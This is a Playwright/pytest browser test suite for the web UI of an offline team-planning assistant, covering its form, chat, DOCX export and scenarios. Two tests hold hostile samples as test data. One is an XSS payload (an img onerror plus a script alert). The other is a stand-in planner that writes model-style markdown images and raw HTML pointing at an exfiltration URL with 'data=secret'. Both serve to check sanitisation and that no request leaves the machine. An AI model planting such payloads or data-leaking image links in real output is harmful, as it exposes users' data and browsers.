"""The web UI in a real headless Chromium (Debian's /usr/bin/chromium driven by Playwright).

Set UI_SCREENSHOTS=docs to refresh the README's screenshots; otherwise they go to a temp dir.
Without chromium these tests skip, unless CI is set (then they fail: CI must have a browser).
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from docx import Document

from assistant.planners import OfflinePlanner
from ui.app import running

pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings("ignore::Warning:gradio.queueing")]

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--no-first-run"]
INJECTION = "<img src=x onerror=alert(1)><script>alert(1)</script>"
TIMEOUT = 30_000


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        reason = f"{CHROMIUM} not found: install Debian's chromium (apt-get install chromium)"
        if os.environ.get("CI"):
            pytest.fail(reason)
        pytest.skip(reason)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def url():
    with running(OfflinePlanner()) as address:
        yield address


@pytest.fixture
def page(browser, url):
    context = browser.new_context(viewport={"width": 1500, "height": 1000}, accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(TIMEOUT)
    page.dialogs = []
    page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(url, wait_until="domcontentloaded")
    page.wait_for_selector("#chat-input textarea")
    yield page
    context.close()


@pytest.fixture
def shots(tmp_path) -> Path:
    folder = Path(os.environ.get("UI_SCREENSHOTS") or tmp_path)
    folder = folder if folder.is_absolute() else Path(__file__).resolve().parents[1] / folder
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def fill_form(page, employees="300", industry="fashion retail", channels=("physical stores", "e-commerce"),
              challenge="Stores and e-commerce compete for the same customers."):
    page.click("#form-tab-button")
    page.fill("#employees input", employees)
    page.fill("#industry textarea", industry)
    for channel in channels:
        page.click("#channels input")
        page.keyboard.type(channel[:4])
        page.click(f"ul[role=listbox] li:has-text('{channel}')")
    page.fill("#challenge textarea", challenge)
    page.click("#plan-button")
    wait_for_diagrams(page)


def wait_for_diagrams(page):
    """Both diagrams drawn: mermaid's SVG with its nodes and its task bars in place."""
    page.wait_for_selector("#org-chart .mermaid svg g.node")
    page.wait_for_selector("#gantt .mermaid svg rect.task")


def send(page, message: str) -> str:
    """Send a chat message and wait for the assistant's reply to finish; its text."""
    page.click("#chat-tab-button")
    before = page.locator("#chatbot .bot-row").count()
    page.fill("#chat-input textarea", message)
    page.press("#chat-input textarea", "Enter")
    page.wait_for_function(f"document.querySelectorAll('#chatbot .bot-row').length > {before}")
    page.wait_for_function("!document.querySelector('#chatbot .generating, #chat-input .stop-button')")
    page.wait_for_timeout(300)
    return page.locator("#chatbot .bot-row").last.inner_text()


def test_form_gives_a_plan_with_org_chart_and_gantt(page, shots):
    fill_form(page)
    org = page.locator("#org-chart .mermaid svg")
    assert org.locator("g.node").count() >= 5
    assert "Omnichannel Manager" in org.text_content()
    gantt = page.locator("#gantt .mermaid svg")
    assert gantt.locator("rect.task").count() == 3
    assert "W01" in gantt.text_content()
    assert page.locator("#operating-models th.chosen .badge").count() == 1
    assert "offline" in page.inner_text("#status")
    page.screenshot(path=str(shots / "ui-form.png"), full_page=True)


def test_chat_in_english_then_a_correction_changes_the_plan(page, shots):
    reply = send(page, "We're a fashion retailer with 300 employees, selling in stores and online.")
    assert "still need" in reply
    reply = send(page, "Our biggest problem: stores and e-commerce compete for the same customers.")
    assert "ready" in reply
    wait_for_diagrams(page)
    nodes = page.locator("#org-chart g.node").count()
    assert "300 employees" in page.inner_text("#profile-summary")
    reply = send(page, "we have 1,200 people, not 300")
    assert "1 200" in reply
    page.wait_for_function("document.querySelector('#profile-summary').innerText.includes('1 200 employees')")
    page.wait_for_function(f"document.querySelectorAll('#org-chart svg g.node').length > {nodes}")  # a bigger team
    wait_for_diagrams(page)
    page.screenshot(path=str(shots / "ui-chat.png"), full_page=True)


def test_chat_in_polish_gives_a_polish_plan(page):
    send(page, "Jesteśmy siecią aptek, zatrudniamy 300 osób. Sprzedajemy w aptekach i w sklepie internetowym. "
               "Największy problem: każdy dział ma własne cele.")
    wait_for_diagrams(page)
    assert "Planer" in page.inner_text("#status")
    assert "Pierwsze 90 dni" in page.inner_text("#gantt")
    reply = send(page, "mamy 1200 osób, nie 300")
    assert "Gotowe" in reply and "1 200" in reply


def test_docx_download_opens_with_python_docx(page, tmp_path):
    fill_form(page)
    with page.expect_download() as download:
        page.click("#download-docx")
    path = tmp_path / download.value.suggested_filename
    download.value.save_as(path)
    assert path.suffix == ".docx"
    doc = Document(path)
    assert doc.tables[0].rows[0].cells[1].text == "300"
    assert any(p.text.startswith("Omnichannel team plan") for p in doc.paragraphs)


def test_injection_in_the_challenge_renders_as_text(page):
    fill_form(page, challenge=f"{INJECTION} departments work in silos")
    summary = page.locator("#profile-summary")
    assert INJECTION in summary.inner_text()
    assert summary.locator("img, script").count() == 0
    reply = send(page, f"problem: {INJECTION} silos")
    assert INJECTION in reply
    assert page.locator("#chatbot img[src=x], #chatbot script, #profile-summary script").count() == 0
    assert page.evaluate("[...document.scripts].filter(s => s.textContent.includes('alert(1)')).length") == 0
    page.wait_for_timeout(500)
    assert page.dialogs == []


def test_scenarios_compare_two_operating_models(page, shots):
    fill_form(page, employees="1200", channels=("physical stores", "e-commerce", "marketplace"))
    page.click("#scenarios-tab-button")
    page.click("#compare-button")
    table = page.wait_for_selector("#scenario-table")
    text = table.inner_text()
    assert re.search(r"A: hybrid · 1,200", text) and "B: centralized · 1,200" in text
    assert page.locator("#scenario-table tr.changed").count() >= 2
    page.screenshot(path=str(shots / "ui-scenarios.png"), full_page=True)


LEAK = "http://198.51.100.7/leak.png?data=secret"  # TEST-NET-2: a host no test may reach


class ImageWritingPlanner(OfflinePlanner):
    """The offline planner, as if a model had written images and raw HTML into the plan."""

    def team_plan(self, profile):
        plan = super().team_plan(profile)
        hostile = f"![chart]({LEAK}) <img src=\"{LEAK}&raw=1\"> [source]({LEAK}&link=1)"
        kpis = [plan.kpis[0].model_copy(update={"name": hostile}), *plan.kpis[1:]]
        return plan.model_copy(update={"summary": hostile, "kpis": kpis})


def test_no_request_leaves_for_a_url_a_model_wrote(browser):
    outside = []

    def only_this_machine(route):
        if route.request.url.startswith(("http://127.0.0.1", "ws://127.0.0.1", "data:", "blob:")):
            return route.continue_()
        outside.append(route.request.url)
        return route.abort()

    with running(ImageWritingPlanner()) as address:
        context = browser.new_context(viewport={"width": 1500, "height": 1000})
        context.route("**/*", only_this_machine)
        page = context.new_page()
        page.set_default_timeout(TIMEOUT)
        page.goto(address, wait_until="domcontentloaded")
        page.wait_for_selector("#chat-input textarea")
        reply = send(page, "Fashion retailer, 300 employees, stores and e-commerce; the problem: silos.")
        page.click("#text-tab-button")
        page.wait_for_selector("#plan-text :text('leak.png')")
        text = page.locator("#plan-text").inner_text()
        page.wait_for_timeout(1000)
        images = page.evaluate("[...document.images].map(i => i.src)")
        context.close()
    assert outside == [], outside
    assert "![chart](" in reply and f"![chart]({LEAK})" in text and "<img src=" in text
    assert not [src for src in images if "198.51.100.7" in src]
